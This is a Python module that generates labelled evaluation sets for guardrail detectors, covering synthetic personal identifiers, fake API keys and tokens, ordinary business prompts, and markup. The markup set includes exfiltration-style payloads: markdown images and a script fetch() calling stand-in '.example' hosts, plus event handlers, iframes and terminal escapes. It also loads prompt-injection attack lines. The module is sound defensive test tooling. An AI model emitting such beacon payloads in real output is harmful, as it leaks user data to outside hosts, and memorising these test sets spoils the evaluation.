"""The sets that guards are measured on: texts, and what is in them. Each has a half that nobody tunes on.

`personal-data` and `secrets`: a valid value in a sentence of five languages or of its own country. `ordinary`: prompts
of every day in English and French, with the numbers of every day in them. `markup`: what acts when it is shown, and
what does not.
"""

from __future__ import annotations

import string
from collections.abc import Callable, Iterator
from importlib.resources import files
from random import Random
from typing import Literal, TypeAlias

import msgspec

from gemstead.core.errors import NameUnknown
from gemstead.guardrails.evaluation import people

Half: TypeAlias = Literal["tuning", "held-out"]
SEEDS: dict[Half, int] = {"tuning": 20261124, "held-out": 4127}
PER_KIND = 50
"""Values of each kind and country, in each half."""


class Sample(msgspec.Struct, frozen=True):
    """`kind` None: there is nothing in it to be found. The value stands at characters [start, end)."""

    text: str
    kind: str | None
    source: str
    """Its country, its issuer, or what it looks like."""
    language: str
    start: int = 0
    end: int = 0


def samples(name: str, half: Half) -> list[Sample]:
    """Raises: NameUnknown."""
    make = _SETS.get(name)
    if make is None:
        raise NameUnknown("evaluation set", name, list(_SETS))
    return list(make(Random(SEEDS[half]), half))  # noqa: S311 (the same texts every time)


_CARRIERS: dict[str, tuple[str, ...]] = {
    "en": (
        "Please update the file: {word} {value}.",
        "Her {word} is {value}, as she told us.",
        "{word}: {value}",
        "Write to the customer ({word} {value}) before Friday.",
        "I think my {word} {value} is wrong, can you check?",
        "name;{word};city\nWeber;{value};Bonn",
    ),
    "fr": (
        "Merci de corriger la fiche : {word} {value}.",
        "Son {word} est {value}, d'après elle.",
        "{word} : {value}",
        "Écris au client ({word} {value}) avant vendredi.",
        "Je crois que mon {word} {value} est faux, tu peux vérifier ?",
        "Voici mon {word} : {value} merci",
    ),
    "de": (
        "Bitte ändern: {word} {value}.",
        "Ihre {word} ist {value}, sagt sie.",
        "{word}: {value}",
        "Schreib dem Kunden ({word} {value}) bis Freitag.",
        "Meine {word} {value} stimmt nicht, oder?",
        "{word} lautet {value}",
    ),
    "es": (
        "Corrige la ficha: {word} {value}.",
        "Su {word} es {value}, según ella.",
        "{word}: {value}",
        "Escribe al cliente ({word} {value}) antes del viernes.",
        "Creo que mi {word} {value} está mal.",
        "Mi {word} es {value} gracias",
    ),
    "it": (
        "Correggi la scheda: {word} {value}.",
        "Il suo {word} è {value}, dice lei.",
        "{word}: {value}",
        "Scrivi al cliente ({word} {value}) entro venerdì.",
        "Il mio {word} {value} è sbagliato?",
        "Ecco il {word}: {value} grazie",
    ),
}
"""Those at even places are for tuning, the others are held out."""

_LANGUAGE = {"FR": "fr", "BE": "fr", "CH": "fr", "DE": "de", "ES": "es", "IT": "it"}
_WORDS: dict[str, dict[str, str]] = {
    "phone": {"en": "phone", "fr": "téléphone", "de": "Telefonnummer", "es": "teléfono", "it": "telefono"},
    "email": {"en": "address", "fr": "adresse", "de": "Adresse", "es": "correo", "it": "indirizzo"},
    "card": {"en": "card", "fr": "carte", "de": "Karte", "es": "tarjeta", "it": "carta"},
    "iban": {"en": "account", "fr": "compte", "de": "Kontonummer", "es": "cuenta", "it": "conto"},
    "vat": {"en": "tax number", "fr": "numéro de TVA", "de": "USt-IdNr.", "es": "NIF", "it": "partita IVA"},
    "ip": {"en": "address", "fr": "adresse", "de": "Adresse", "es": "dirección", "it": "indirizzo"},
    "mac": {"en": "device", "fr": "appareil", "de": "Gerätenummer", "es": "equipo", "it": "dispositivo"},
    "fr_nir": {"en": "social security number", "fr": "numéro de sécurité sociale"},
    "it_cf": {"en": "tax code", "it": "codice fiscale"},
    "nl_bsn": {"en": "BSN", "fr": "BSN", "de": "BSN"},
    "be_nn": {"en": "national number", "fr": "numéro national"},
    "pl_pesel": {"en": "PESEL", "de": "PESEL"},
    "se_pnr": {"en": "personnummer"},
    "fi_hetu": {"en": "henkilötunnus"},
    "es_dni": {"en": "DNI", "es": "DNI"},
    "de_tax_id": {"en": "tax ID number", "de": "Steuer-ID"},
    "ca_sin": {"en": "SIN", "fr": "numéro d'assurance sociale"},
    "us_ssn": {"en": "SSN", "es": "SSN"},
    "ch_avs": {"en": "AVS number", "fr": "numéro AVS", "de": "AHV-Nummer"},
    "uk_nino": {"en": "National Insurance number"},
    "uk_nhs": {"en": "NHS number"},
}


def carried(random: Random, half: Half, value: str, kind: str, source: str, language: str) -> Sample:
    """`value` in a sentence of that language, or in an English one where there is no word for its kind."""
    words = _WORDS[kind]
    language = language if language in words else "en"
    carrier = random.choice(_CARRIERS[language][half == "held-out" :: 2])
    before, after = carrier.replace("{word}", words[language]).split("{value}")
    return Sample(before + value + after, kind, source, language, len(before), len(before) + len(value))


def _personal_data(random: Random, half: Half) -> Iterator[Sample]:
    for country in people.COUNTRIES:
        language = _LANGUAGE.get(country, "en")
        kind, make = people.PERSON[country]
        for index in range(PER_KIND):
            own = language if index % 2 else "en"
            yield carried(random, half, make(random), kind, country, own)
            yield carried(random, half, people.phone(random, country), "phone", country, own)
            if country not in ("CA", "US"):
                yield carried(random, half, people.iban(random, country), "iban", country, own)
                yield carried(random, half, people.vat_number(random, country), "vat", country, own)
    anywhere: tuple[tuple[str, Callable[[Random], str]], ...] = (
        *(
            ("email", people.email),
            ("card", people.card),
            ("ip", people.ip),
            ("mac", people.mac),
            ("uk_nhs", people.uk_nhs),
        ),
    )
    for kind, make in anywhere:
        for index in range(2 * PER_KIND):
            language = ("en", "fr", "de", "es", "it")[index % 5]
            yield carried(random, half, make(random), kind, "GB" if kind == "uk_nhs" else "any", language)


def _ordinary(random: Random, half: Half) -> Iterator[Sample]:
    for language in ("en", "fr"):
        lines = files(__package__).joinpath(f"ordinary_{language}.txt").read_text(encoding="utf-8").splitlines()
        for line in lines[half == "held-out" :: 2]:
            for _ in range(10):
                yield Sample(_filled(random, line), None, "business prompts", language)


def _filled(random: Random, line: str) -> str:
    """Each slot a number of its own."""
    out, rest = "", line.replace("{{", "\1").replace("}}", "\2")
    while "{" in rest:
        before, _, rest = rest.partition("{")
        name, _, rest = rest.partition("}")
        out += before + _SLOTS[name](random)
    return (out + rest).replace("\1", "{").replace("\2", "}")


def _letters(random: Random, count: int) -> str:
    return "".join(random.choices(string.ascii_uppercase, k=count))


def _date(random: Random) -> str:
    year, month, day = random.randint(2019, 2028), random.randint(1, 12), random.randint(1, 28)
    return random.choice(
        (
            f"{day:02}/{month:02}/{year}",
            f"{year}-{month:02}-{day:02}",
            f"{day:02}.{month:02}.{year}",
            f"{year}{month:02}{day:02}",
        )
    )


def _amount(random: Random) -> str:
    number = random.randint(1, 90_000_000)
    plain = f"{number:,}"
    return random.choice(
        (
            f"€{plain}",
            f"{plain.replace(',', ' ')} EUR",
            f"{plain.replace(',', '.')},{random.randint(0, 99):02} €",
            f"${plain}.00",
        )
    )


_SLOTS: dict[str, Callable[[Random], str]] = {
    "date": _date,
    "amount": _amount,
    "ref": lambda random: random.choice(
        (
            f"INV-{random.randint(2019, 2028)}-{random.randint(1, 99999):05}",
            f"#{random.randint(10000, 9999999)}",
            f"{_letters(random, 3)}-{random.randint(1000, 999999)}",
        )
    ),
    "id": lambda random: f"{_letters(random, 2)}{random.randint(100, 99999)}{random.choice(('', '-A', '/2', 'X'))}",
    "year": lambda random: str(random.randint(1990, 2035)),
    "pct": lambda random: f"{random.randint(0, 99)}.{random.randint(0, 9)} %",
    "small": lambda random: str(random.randint(1, 99)),
    "count": lambda random: str(random.randint(1000, 99_999_999)),
    "rate": lambda random: f"{random.randint(0, 60)}.{random.randint(1, 99999)}",
    "time": lambda random: f"{random.randint(0, 23):02}:{random.randint(0, 59):02}",
    "version": lambda random: f"{random.randint(1, 20)}.{random.randint(0, 30)}.{random.randint(0, 30)}",
    "hex": lambda random: f"{random.getrandbits(48):012x}",
    "sha": lambda random: f"{random.getrandbits(160):040x}",
    "flight": lambda random: f"{_letters(random, 2)}{random.randint(100, 9999)}",
}

_ALPHANUMERIC = string.ascii_letters + string.digits


def _word(random: Random, count: int, chars: str = _ALPHANUMERIC) -> str:
    return "".join(random.choices(chars, k=count))


_KEYS: dict[str, Callable[[Random], str]] = {
    "aws_key": lambda random: "AKIA" + _word(random, 16, string.ascii_uppercase + "234567"),
    "github_token": lambda random: random.choice(("ghp_", "gho_", "ghs_")) + _word(random, 36),
    "gitlab_token": lambda random: "glpat-" + _word(random, 20),
    "slack_token": lambda random: f"xoxb-{random.randint(10**11, 10**12)}-{_word(random, 24)}",
    "google_key": lambda random: "AIza" + _word(random, 35),
    "hugging_face_token": lambda random: "hf_" + _word(random, 34),
    "openai_key": lambda random: random.choice(("sk-", "sk-proj-")) + _word(random, 48),
    "anthropic_key": lambda random: "sk-ant-api03-" + _word(random, 93),
    "stripe_key": lambda random: "sk_live_" + _word(random, 24),
    "jwt": lambda random: f"eyJ{_word(random, 33)}.eyJ{_word(random, 70)}.{_word(random, 43)}",
    "private_key": lambda random: "\n".join(
        (
            "-----BEGIN PRIVATE KEY-----",
            *(_word(random, 64) for _ in range(12)),
            _word(random, 20) + "==",
            "-----END PRIVATE KEY-----",
        )
    ),
    "url_password": lambda random: f"postgresql://app:{_word(random, 12)}@",
    "secret": lambda random: _word(random, random.randint(10, 40)) + random.choice("97%"),
}
_KEY_CARRIERS = (
    ("en", "My key is {value} and it does not work."),
    ("en", "export API_KEY={value}"),
    ("en", '{{"api_key": "{value}"}}'),
    ("en", "curl -H 'Authorization: Bearer {value}' https://api.example.com"),
    ("fr", "Voici la clé API : {value}"),
    ("fr", "mot de passe : {value}"),
    ("de", "Das Passwort lautet {value} bitte nicht weitergeben"),
    ("en", "client_secret: {value}\n"),
    ("es", "contraseña: {value}"),
    ("it", "la password è {value} grazie"),
)


def _secrets(random: Random, half: Half) -> Iterator[Sample]:
    carriers = _KEY_CARRIERS[half == "held-out" :: 2]
    for kind, make in _KEYS.items():
        for _ in range(PER_KIND):
            language, carrier = random.choice(carriers[1:] if kind == "secret" and half == "tuning" else carriers)
            before, after = carrier.replace("{{", "{").replace("}}", "}").split("{value}")
            value = make(random)
            yield Sample(before + value + after, kind, kind, language, len(before), len(before) + len(value))


_ACTIVE = (
    ("remote_image", "![chart](https://{host}/c.png?d={word})"),
    ("remote_image", "![](//{host}/{word})"),
    ("active_html", "<script>fetch('https://{host}/{word}')</script>"),
    ("active_html", '<img src="https://{host}/{word}">'),
    ("active_html", '<div onmouseover="{word}()">'),
    ("active_html", "<IFRAME src=//{host}>"),
    ("terminal_escape", "\x1b]8;;https://{host}/{word}\x07"),
    ("terminal_escape", "\x1b[2J{word}"),
)
_PASSIVE = (
    "Use a List<int> or a Map<String, {word}> here.",
    "```html\n<script src='{word}.js'></script>\n```",
    "If a < b and b > c, then {word}.",
    "See [the manual](manual.md) and ![logo](logo.png) for {word}.",
    'Use the `<img>` element with alt="{word}".',
    "**{word}** <em>fine</em>",
)


def _markup(random: Random, half: Half) -> Iterator[Sample]:
    for kind, shape in _ACTIVE[half == "held-out" :: 2]:
        for _ in range(PER_KIND):
            value = shape.replace("{host}", f"{_word(random, 8).lower()}.example").replace("{word}", _word(random, 12))
            text = f"Here is the summary.\n\n{value}\nThat is all."
            yield Sample(text, kind, kind, "en", 22, 22 + len(value))
    for shape in _PASSIVE:
        for _ in range(PER_KIND):
            yield Sample(shape.replace("{word}", _word(random, 8)), None, "harmless markup", "en")


def _injection(random: Random, half: Half) -> Iterator[Sample]:  # noqa: ARG001 (one signature)
    """Attacks, and prompts of every day that look a little like them."""
    for language in ("en", "fr"):
        for name, kind in (("attacks", "injection"), ("lookalikes", None)):
            lines = files(__package__).joinpath(f"{name}_{language}.txt").read_text(encoding="utf-8").splitlines()
            for line in lines[half == "held-out" :: 2]:
                yield Sample(line, kind, "attacks" if kind else "look-alikes", language, 0, len(line))


_SETS: dict[str, Callable[[Random, Half], Iterator[Sample]]] = {
    "personal-data": _personal_data,
    "secrets": _secrets,
    "ordinary": _ordinary,
    "markup": _markup,
    "injection": _injection,
}
SETS = tuple(_SETS)
